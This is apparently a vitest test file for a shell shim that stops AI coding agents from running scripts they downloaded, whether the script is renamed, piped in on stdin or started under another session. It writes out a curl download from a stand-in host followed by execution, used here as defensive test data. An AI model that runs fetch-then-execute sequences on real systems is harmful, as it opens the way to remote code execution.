import { existsSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { installGuarded } from "./support/guarded.ts";
import { makePlace, type Place } from "./support/place.ts";
import { start } from "./support/start.ts";

const guarded = installGuarded();

// Nothing is fetched: the host's name can never be resolved, and the test puts the file there.
const download = "curl -s -o x.sh https://host.invalid/x.sh; true";
const payload = "#!/bin/sh\necho this came from elsewhere > ran\n";

let place: Place;
beforeEach(() => {
  place = makePlace();
});

const put = (name: string, text = payload): void =>
  writeFileSync(join(place.project, name), text, { mode: 0o755 });
const hasRun = (): boolean => existsSync(join(place.project, "ran"));

interface Caller {
  readonly program?: string;
  readonly argv?: readonly string[];
  readonly session?: string;
}

/** Runs a text through the shim, as an agent does. */
async function run(text: string, caller: Caller = {}) {
  const { program = join(guarded.shims, "bash"), session = "one" } = caller;
  const { status, stderr } = await start({
    program,
    argv: caller.argv ?? ["bash", "-c", text],
    cwd: place.project,
    env: { HOME: place.home, PATH: "/usr/bin:/bin", CLAUDE_CODE_SESSION_ID: session },
  });
  return status === 126 ? (/\[([\w-]+)\]/.exec(stderr)?.[1] ?? stderr) : status;
}

describe("what was downloaded is not run by a later shell", () => {
  test("as a text that runs it, whatever its session says", async () => {
    expect(await run(download)).toBe(0);
    put("x.sh");
    expect(await run("bash x.sh")).toBe("run-remote-code");
    expect(await run("./x.sh", { session: "two" })).toBe("run-remote-code");
    expect(await run("cat x.sh > /dev/null", { session: "two" })).toBe(0);
    expect(hasRun()).toBe(false);
  });

  test("as a script of the shell itself", async () => {
    expect(await run(download)).toBe(0);
    put("x.sh");
    expect(await run("", { argv: ["bash", "x.sh"] })).toBe("run-remote-code");
    expect(hasRun()).toBe(false);
  });

  test("as the standard input of the shell", async () => {
    expect(await run(download)).toBe(0);
    put("x.sh");
    const program = "/bin/bash";
    const argv = ["bash", "-c", `${join(guarded.shims, "bash")} < x.sh`];
    expect(await run("", { program, argv })).toBe("run-remote-code");
    put("mine.sh", "echo mine > mine\n");
    const own = ["bash", "-c", `${join(guarded.shims, "bash")} < mine.sh`];
    expect(await run("", { program, argv: own })).toBe(0);
    expect([hasRun(), existsSync(join(place.project, "mine"))]).toEqual([false, true]);
  });

  test("under the name that an allowed mv gave it", async () => {
    expect(await run(download)).toBe(0);
    put("x.sh");
    expect(await run("chmod +x x.sh && mv x.sh y.sh")).toBe(0);
    expect(existsSync(join(place.project, "y.sh"))).toBe(true);
    expect(await run("bash y.sh")).toBe("run-remote-code");
    expect(hasRun()).toBe(false);
  });

  test("under a name that nobody saw it get", async () => {
    expect(await run(download)).toBe(0);
    put("x.sh");
    expect(await run("true")).toBe(0);
    renameSync(join(place.project, "x.sh"), join(place.project, "z.sh"));
    expect(await run("bash z.sh")).toBe("run-remote-code");
    expect(hasRun()).toBe(false);
  });
});

describe("everyday work goes on in silence", () => {
  test("a script that was written, changed and run", async () => {
    expect(await run("printf 'echo mine > ran\\n' > build.sh && chmod +x build.sh")).toBe(0);
    expect(await run("./build.sh")).toBe(0);
    expect(hasRun()).toBe(true);
    expect(await run("rm build.sh")).toBe(0);
  });

  test("a download that is overwritten", async () => {
    expect(await run(download)).toBe(0);
    expect(await run("echo 'echo mine > ran' > x.sh")).toBe(0);
    expect(await run("bash x.sh")).toBe(0);
    expect(hasRun()).toBe(true);
  });
});

test("without its ledger a session doubts what it finds", async () => {
  put("found.sh", "#!/bin/sh\necho here before > ran\n");
  expect(await run("bash found.sh")).toBe(0);
  rmSync(join(place.project, "ran"));
  rmSync(join(guarded.state, "ledger"), { recursive: true });
  expect(await run("bash found.sh")).toBe("run-opaque-code");
  expect(await run("ls > /dev/null")).toBe(0);
  expect(hasRun()).toBe(false);
});
